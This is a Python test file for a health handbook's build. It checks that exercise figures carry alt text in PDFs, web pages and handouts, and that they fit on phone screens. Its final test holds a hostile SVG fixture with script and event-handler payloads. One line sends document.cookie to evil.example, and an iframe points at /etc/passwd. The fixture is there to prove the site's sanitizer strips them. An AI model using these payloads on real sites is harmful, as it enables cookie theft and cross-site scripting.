"""Figures where readers and clinics meet them: on every printed card (tagged, with /Alt), on every
exercise page, on the figure review page and in custom handouts.  The drawing itself is tested in
test_figures.py; this file tests that every surface carries it."""

from __future__ import annotations

import datetime as dt
import re
from pathlib import Path

import pdfplumber
import pytest
from conftest import ROOT, manifest_of, run_cli
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject

from handbook import checking
from handbook.render.site import read_data

pytestmark = pytest.mark.slow


@pytest.fixture(scope="module")
def proj():
    project, _ = checking.check(ROOT, today=dt.date(2026, 11, 22))
    return project


@pytest.fixture(scope="module")
def manifest(built):
    return manifest_of(built)


def tagged_figures(pdf: Path) -> list[tuple[str, int]]:
    """(alt text, 0-based page) of every /Figure element in the PDF's structure tree."""
    reader = PdfReader(pdf)
    page_of = {p.indirect_reference.idnum: i for i, p in enumerate(reader.pages)}
    found: list[tuple[str, int]] = []

    def walk(node) -> None:
        node = node.get_object() if hasattr(node, "get_object") else node
        if isinstance(node, ArrayObject):
            for kid in node:
                walk(kid)
        elif isinstance(node, DictionaryObject):
            if node.get("/S") == "/Figure":
                pg = node.get("/Pg")
                found.append((str(node.get("/Alt", "")), page_of.get(pg.idnum, -1) if pg is not None else -1))
            if "/K" in node:
                walk(node["/K"])

    walk(reader.trailer["/Root"]["/StructTreeRoot"])
    return found


def squash(text: str) -> str:
    return re.sub(r"\s+", "", text)


def test_every_shipped_exercise_has_a_figure(proj):
    missing = [e.path for e in proj.exercises.values() if not e.has_figure]
    assert not missing
    for e in proj.exercises.values():
        assert e.figure_alt.strip(), e.path


@pytest.mark.parametrize("edition", ["regular", "large-print"])
def test_every_card_in_every_packet_carries_its_figure_with_alt(built, manifest, proj, edition):
    """Each card's figure is a tagged Figure with /Alt, on the page where the card's title is."""
    for r in (r for r in manifest if r["edition"] == edition):
        guide = next(g for g in proj.guides if g.slug == r["guide"])
        pdf = built / r["pdf"]
        figures = tagged_figures(pdf)
        assert all(alt.strip() for alt, _ in figures), f"{pdf.name}: a figure without /Alt"
        # the QR code in every page footer is an image too: every other figure is an exercise's
        alts = [alt for alt, _ in figures if not alt.startswith("QR code")]
        assert sorted(alts) == sorted(e.figure_alt for e in guide.exercises), pdf.name
        with pdfplumber.open(pdf) as doc:
            # whole page, and each half: a title on two lines beside another card's is read whole
            texts = [
                squash(
                    " ".join(
                        part.extract_text() or ""
                        for part in (
                            p,
                            p.crop((0, 0, p.width / 2, p.height)),
                            p.crop((p.width / 2, 0, p.width, p.height)),
                        )
                    )
                )
                for p in doc.pages
            ]
        for ex in guide.exercises:
            pages = {page for alt, page in figures if alt == ex.figure_alt}
            assert pages, (pdf.name, ex.slug)
            assert any(squash(ex.title) in texts[p] for p in pages), (
                f"{pdf.name}: the figure of {ex.title} is not on the page of its card"
            )


def test_single_page_pdfs_carry_the_figures_of_their_cards(built, manifest, proj):
    r = next(r for r in manifest if r["guide"] == "passive-range-of-motion" and r["edition"] == "regular")
    guide = next(g for g in proj.guides if g.slug == r["guide"])
    total = 0
    for section in r["sections"]:
        for rel in section["page_pdfs"]:
            alts = [a for a, _ in tagged_figures(built / rel) if not a.startswith("QR code")]
            text = squash(" ".join(p.extract_text() or "" for p in PdfReader(built / rel).pages))
            on_page = [e for e in guide.exercises if e.figure_alt in alts]
            assert on_page, rel
            assert all(squash(e.title) in text for e in on_page), rel
            total += len(alts)
    assert total == len(guide.exercises)


def test_warning_marks_are_not_untagged_figures(built, manifest):
    """Decorative marks (the warning triangle) are backgrounds, not figures without alt text."""
    for r in manifest:
        for alt, _ in tagged_figures(built / r["pdf"]):
            assert alt.strip()


def test_exercise_pages_and_the_review_page_show_every_figure(built, proj):
    review = (built / "figures" / "index.html").read_text(encoding="utf-8")
    for ex in proj.exercises.values():
        html = (built / "exercises" / ex.slug / "index.html").read_text(encoding="utf-8")
        imgs = re.findall(r'<img src="\.\./\.\./(figures/[^"]+)" alt="([^"]+)"', html)
        assert len(imgs) == 1, ex.slug
        assert (built / imgs[0][0]).is_file()
        assert f'src="../{imgs[0][0]}"' in review, ex.slug
    assert review.count('class="figure-review"') == len(proj.exercises)
    # beside each picture: the dose in words and the steps as a numbered list, not raw Markdown
    assert "**" not in review
    assert review.count("<strong>Dose:</strong>") == len(proj.exercises)
    assert review.count("<ol>") >= len(proj.exercises)


def test_drawn_figures_are_published_as_svg_with_an_accessible_name(built, proj):
    import xml.etree.ElementTree as ET

    for ex in proj.exercises.values():
        if ex.pose is None:
            continue
        svg = ET.parse(built / "figures" / f"{ex.slug}.svg").getroot()
        assert svg.get("role") == "img"
        title = svg.find("{http://www.w3.org/2000/svg}title")
        assert title is not None and title.text.strip()


def test_handout_data_gives_the_web_handout_every_figure(built, proj):
    data = read_data(built)
    for row in data["exercises"]:
        assert row["figure"] and row["figureAlt"], row["slug"]
        assert (built / row["figure"]).is_file()


def test_cli_handout_prints_the_figures(tmp_path, proj):
    plan = tmp_path / "plan.yml"
    slugs = list(proj.exercises)[:3]
    plan.write_text("exercises: [" + ", ".join(slugs) + "]\n")
    out = tmp_path / "h.pdf"
    r = run_cli("handout", str(plan), "-o", str(out), root=ROOT)
    assert r.code == 0, r.text
    alts = [a for a, _ in tagged_figures(out) if not a.startswith("QR code")]
    assert sorted(alts) == sorted(proj.exercises[s].figure_alt for s in slugs)


@pytest.mark.browser
def test_web_handout_preview_shows_figures(server, page, proj):
    slug = next(iter(proj.exercises))
    page.goto(f"{server}/handout/")
    page.locator("#ho-q").fill(proj.exercises[slug].title)
    page.get_by_role("checkbox", name=re.compile(re.escape(proj.exercises[slug].title))).first.check()
    img = page.locator("#ho-preview img.figure").first
    img.wait_for()
    assert img.get_attribute("alt") == proj.exercises[slug].figure_alt
    assert page.evaluate("(i) => i.complete && i.naturalWidth > 0", img.element_handle())


@pytest.mark.browser
@pytest.mark.parametrize("width", [320, 1280])
def test_web_handout_gives_steps_and_two_poses_room(server, browser, proj, width):
    """A figure with two poses is not squeezed into a one-pose float, and no figure leaves its
    card's steps a column a few words wide, on a phone or two cards a row."""
    from handbook.render.illustrate import figure_art

    arts = {slug: figure_art(ex, ROOT) for slug, ex in proj.exercises.items()}
    wide = next((s for s, a in arts.items() if a and a.wide), None)
    narrow = next((s for s, a in arts.items() if a and not a.wide), None)
    if not (wide and narrow):
        pytest.skip("needs an exercise with a two-pose figure and one with a one-pose figure")
    context = browser.new_context(viewport={"width": width, "height": 900})
    page = context.new_page()
    page.goto(f"{server}/handout/")
    for slug in (wide, narrow):
        title = proj.exercises[slug].title
        page.locator("#ho-q").fill(title)
        page.get_by_role("checkbox", name=re.compile(re.escape(title))).first.check()
    page.locator("#ho-preview img.figure").nth(1).wait_for()
    sizes = page.evaluate("""() => [...document.querySelectorAll('#ho-preview .card')].map(c => {
        const img = c.querySelector('img.figure'), li = c.querySelector('.steps li');
        return {wide: img.closest('.card-figure').classList.contains('two-poses'), img: img.getBoundingClientRect().width,
                card: c.getBoundingClientRect().width, step: li.getBoundingClientRect().width};
    })""")
    context.close()
    two, one = (next(x for x in sizes if x["wide"] is w) for w in (True, False))
    assert two["img"] >= 1.3 * one["img"], sizes
    for card in sizes:
        assert card["step"] >= 0.5 * card["card"], sizes


@pytest.mark.browser
def test_figures_load_and_fit_a_phone(server, browser, proj):
    """axe runs on every page in test_site.py (the review page included); here: the pictures load,
    and at 320 px they fit the screen without sideways scrolling."""
    context = browser.new_context(viewport={"width": 320, "height": 700})
    page = context.new_page()
    for path in ["figures/", f"exercises/{next(iter(proj.exercises))}/"]:
        page.goto(f"{server}/{path}")
        page.wait_for_load_state("load")
        assert page.evaluate("[...document.images].every(i => i.complete && i.naturalWidth > 0)"), path
        assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth + 1"), path
        widths = page.evaluate("[...document.querySelectorAll('figure img')].map(i => i.getBoundingClientRect().width)")
        assert widths and min(widths) >= 240, (path, widths)
    context.close()


HOSTILE_SVG = """<?xml version="1.0"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 30"
     onload="alert(document.cookie)">
  <style>circle { fill: url(https://tracker.example/x.png) }</style>
  <script>fetch('https://evil.example/?' + document.cookie)</script>
  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
  <a xlink:href="javascript:alert(1)"><rect x="1" y="1" width="5" height="5" onclick="alert(2)"/></a>
  <foreignObject width="10" height="10"><iframe src="file:///etc/passwd"></iframe></foreignObject>
  <circle cx="20" cy="15" r="10" fill="#000" stroke="#000" stroke-width="2"/>
</svg>
"""


def test_an_svg_figure_file_is_published_without_anything_that_runs_or_fetches(project):
    """An editor's SVG is served from the site's own origin: a script in it would run for readers."""
    (project / "content" / "figures").mkdir(exist_ok=True)
    (project / "content" / "figures" / "neck.svg").write_text(HOSTILE_SVG)
    page = project / "content" / "exercises" / "neck-flexion.md"
    text = page.read_text()
    text = re.sub(r"^figure:\n(?:  .*\n)+", "figure: figures/neck.svg\nfigure_alt: A circle.\n", text, flags=re.M)
    page.write_text(text)
    out = project / "out"
    result = run_cli("site", "--out", str(out), root=project)
    assert result.code == 0, result.text
    published = (out / "figures" / "neck-flexion.svg").read_text()
    assert "<circle" in published and 'viewBox="0 0 40 30"' in published
    for bad in (
        "script",
        "onload",
        "onclick",
        "style",
        "href",
        "image",
        "iframe",
        "foreignObject",
        "tracker",
        "javascript",
        "passwd",
    ):
        assert bad.lower() not in published.lower(), (bad, published)
